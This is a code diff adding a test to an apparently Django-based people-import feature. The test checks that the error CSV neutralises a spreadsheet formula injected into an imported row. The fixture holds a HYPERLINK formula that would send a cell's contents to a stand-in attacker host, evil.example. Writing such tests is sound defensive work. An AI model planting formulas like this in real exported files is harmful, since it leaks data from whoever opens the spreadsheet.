@@ -214,3 +214,20 @@ def test_anonymising_the_operation_erases_the_files_and_their_error_rows(operati
     assert bytes(done.content) == b"" and done.error_rows == [] and done.headers == []
     assert not ImportedRow.objects.filter(operation=operation).exists()
     assert done.rows_created == 3
+
+
+def test_the_error_file_defuses_a_cell_a_spreadsheet_would_run_as_a_formula(
+    client, operation, almaty, bob
+):
+    # The rows come from whoever filled in the list: opened in Excel, "=…" would run.
+    formula = '=HYPERLINK("http://evil.example/?"&B2,"Open")'
+    done = run(
+        operation,
+        bob,
+        content=csv_bytes(rows=[f"{formula};OLENA;31.02.1980;FB000009;+380671112299;Almaty;"]),
+    )
+    assert done.rows_error == 1
+    client.force_login(bob)
+    errors = client.get(reverse("people:import_errors", args=[operation.slug, done.pk]))
+    rows = list(csv.reader(io.StringIO(errors.content.decode().lstrip("\ufeff"))))
+    assert rows[1][0] == f"'{formula}"
